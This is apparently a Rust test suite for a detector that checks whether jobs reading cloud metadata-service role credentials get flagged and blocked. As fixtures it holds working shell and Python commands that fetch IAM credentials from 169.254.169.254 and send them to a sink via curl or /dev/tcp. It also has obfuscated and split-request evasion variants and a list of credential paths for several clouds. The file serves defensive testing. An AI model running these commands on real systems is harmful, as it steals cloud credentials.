//! The metadata service of a cloud as a door: who asks it for the keys of the machine's role holds them, and who asks for anything
//! else does not.

use detector::{
    engine::{Finding, Severity, Verdict},
    event::{Door, Outcome as Fate},
};
use detector_tests::{namespace::SINK_V4, scene::Scene, watched::Watched};
use std::{collections::BTreeSet, fs};

type Result = anyhow::Result<()>;

const BUILTIN: &str = "version: 1\nextends: builtin\n";

/// Asks by `$1`, in pieces where there are several arguments, and sends the answer on.
const ASK: &str = r#"
import socket, sys, os
service = socket.create_connection(("169.254.169.254", 80), timeout=5)
for piece in sys.argv[2:]:
    service.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    service.sendall(piece.encode().decode("unicode_escape").encode())
answer = b""
while piece := service.recv(4096):
    answer += piece
host, port = sys.argv[1].split(":")
with socket.create_connection((host, int(port)), timeout=5) as out:
    out.sendall(answer)
"#;

const KEYS: &str = "/latest/meta-data/iam/security-credentials/ci";

fn run(scene: &Scene, mode: &'static str, script: &str) -> anyhow::Result<Watched> {
    let _metadata = scene.metadata()?;
    fs::write(scene.home.tmp().join("ask.py"), ASK)?;
    Watched::run(scene, &scene.job(["bash", "-c", script]).policy(BUILTIN).mode(mode))
}

fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

/// It is held, and does not leave in enforce; in audit it leaves and is found.
fn stolen(script: &str) -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let run = run(&scene, mode, script)?;
        let found = leaks(&run);
        assert!(!found.is_empty(), "{mode}: {script}: {:#?}", run.conclusion.findings);
        for leak in found {
            let classes: BTreeSet<_> = leak.secret.iter().map(String::as_str).collect();
            assert_eq!((leak.rule.as_str(), classes), ("leak", BTreeSet::from(["cloud-role"])), "{script}");
            assert_eq!(leak.severity, Severity::High);
            assert!(
                leak.destination.as_ref().is_some_and(|to| to.address == SINK_V4),
                "to the service itself: {leak:#?}"
            );
            let outcome = leak.enforced.map(|enforced| enforced.outcome);
            assert_eq!(outcome == Some(Fate::Passed), mode == "audit", "{leak:#?}");
        }
        assert!(run.recording.accesses().any(|(_, access)| access.door == Door::Metadata));
        assert_eq!(scene.role.is_in(&scene.sink.bytes()), mode == "audit", "{mode}: {script}");
    }
    Ok(())
}

/// Nothing is found, and everything arrives.
fn free(script: &str) -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, "enforce", script)?;
    assert!(leaks(&run).is_empty(), "{script}: {:#?}", run.conclusion.findings);
    assert_eq!(run.conclusion.verdict, Verdict::Pass);
    assert!(!scene.sink.bytes().is_empty(), "{script}: nothing arrived");
    Ok(())
}

#[test]
fn who_asks_for_keys_holds_them() -> Result {
    stolen(&format!(
        "curl -s http://169.254.169.254{KEYS} | curl -s -o /dev/null --max-time 5 --data-binary @- http://$SINK/x"
    ))?;
    stolen(&format!(
        "keys=$(curl -s http://169.254.169.254{KEYS}); exec 3<> /dev/tcp/${{SINK/:/\\/}}; echo \"$keys\" >&3"
    ))
}

/// A shell asks itself, as `/dev/tcp` lets it.
#[test]
fn a_shell_that_asks_holds_them() -> Result {
    stolen(&format!(
        "exec 3<> /dev/tcp/169.254.169.254/80; printf 'GET {KEYS} HTTP/1.0\\r\\n\\r\\n' >&3; keys=$(cat <&3); \
         exec 4<> /dev/tcp/${{SINK/:/\\/}} && echo \"$keys\" >&4"
    ))
}

/// Whatever is no whole request, or has characters that stand for others, may ask for anything.
#[test]
fn a_request_in_disguise_counts() -> Result {
    for pieces in [
        r"'GET /latest/meta-data/iam/secur' 'ity-credentials/ci HTTP/1.0\r\n\r\n'",
        r"'GET /latest/meta-data/iam/%73ecurity-credentials/ci HTTP/1.0\r\n\r\n' 'GET /latest/meta-data/iam/security-credentials/ci HTTP/1.0\r\n\r\n'",
        r"'GET /latest/meta-data/iam/SECURITY-CREDENTIALS/ci HTTP/1.0\r\n\r\n'",
    ] {
        let scene = Scene::new()?;
        let run = run(&scene, "enforce", &format!("python3 \"$TMPDIR/ask.py\" $SINK {pieces}"))?;
        assert!(leaks(&run).iter().any(|leak| leak.rule == "leak" && leak.secret == ["cloud-role"]), "{pieces}");
        assert!(!scene.role.is_in(&scene.sink.bytes()), "{pieces}");
    }
    Ok(())
}

/// What honest jobs ask for.
#[test]
fn what_is_no_key_is_free() -> Result {
    for path in [
        "/latest/meta-data/instance-id",
        "/latest/meta-data/placement/region",
        "/latest/dynamic/instance-identity/document",
        "/computeMetadata/v1/instance/service-accounts/default/email",
        "/metadata/instance?api-version=2021-02-01",
    ] {
        free(&format!(
            "curl -s http://169.254.169.254{path} | curl -s -o /dev/null --max-time 5 --data-binary @- http://$SINK/x"
        ))?;
    }
    // A name server at the same address, as some clouds have it.
    free(
        "python3 -c 'import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b\"?\", (\"169.254.169.254\", 53))'; \
         curl -s -o /dev/null --max-time 5 -d asked http://$SINK/x",
    )?;
    free(
        "t=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token); \
          curl -s -o /dev/null --max-time 5 -d \"region $t\" http://$SINK/x",
    )
}

/// The other clouds' keys.
#[test]
fn every_cloud_has_its_keys() -> Result {
    for path in [
        "/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
        "/computeMetadata/v1/instance/service-accounts/default/token",
        "/computeMetadata/v1/instance/service-accounts/default/identity?audience=x",
        "/metadata/identity/oauth2/token?resource=x",
        "/v2/credentials/00000000-0000-0000-0000-000000000000",
        "/opc/v2/identity/key.pem",
        "/openstack/latest/securitykey",
    ] {
        let scene = Scene::new()?;
        let run = run(&scene, "audit", &format!("curl -s -o /dev/null http://169.254.169.254{path}"))?;
        assert!(run.recording.accesses().any(|(_, access)| access.door == Door::Metadata), "{path}");
    }
    Ok(())
}

/// A program that runs an SDK of the class, or that nobody knows, may spend what it asks for: a low alert, and nothing is refused.
/// What it hands on is held.
#[test]
fn a_program_that_may_have_an_sdk_is_taken_for_its_user() -> Result {
    let copy = "cp \"$(command -v python3)\" \"$TMPDIR/tool\" && ";
    let ask = format!(r"'GET {KEYS} HTTP/1.0\r\n\r\n'");
    let scene = Scene::new()?;
    let run = run(&scene, "enforce", &format!("{copy}\"$TMPDIR/tool\" \"$TMPDIR/ask.py\" $SINK {ask}"))?;
    let found: Vec<_> = leaks(&run).iter().map(|leak| (leak.rule.as_str(), leak.severity)).collect();
    assert_eq!(found, [("leak-alert", Severity::Low)]);
    assert_eq!(run.conclusion.verdict, Verdict::Pass);
    assert!(scene.role.is_in(&scene.sink.bytes()));
    // An interpreter, by the files that it opens.
    let sdk = "mkdir -p \"$TMPDIR/botocore\" && touch \"$TMPDIR/botocore/session.py\" && ";
    let user =
        "import sys; open(sys.argv.pop(1) + \"/botocore/session.py\").read(); exec(open(sys.argv.pop(1)).read())";
    let scene = Scene::new()?;
    let script = format!("{sdk}python3 -c '{user}' \"$TMPDIR\" \"$TMPDIR/ask.py\" $SINK {ask}");
    let run = self::run(&scene, "enforce", &script)?;
    let found: Vec<_> = leaks(&run).iter().map(|leak| (leak.rule.as_str(), leak.severity)).collect();
    assert_eq!(found, [("leak-alert", Severity::Low)]);
    assert!(scene.role.is_in(&scene.sink.bytes()));
    stolen(&format!(
        "{copy}\"$TMPDIR/tool\" -c 'import urllib.request as u; print(u.urlopen(\"http://169.254.169.254{KEYS}\").read())' \
         | curl -s -o /dev/null --max-time 5 --data-binary @- http://$SINK/x"
    ))
}
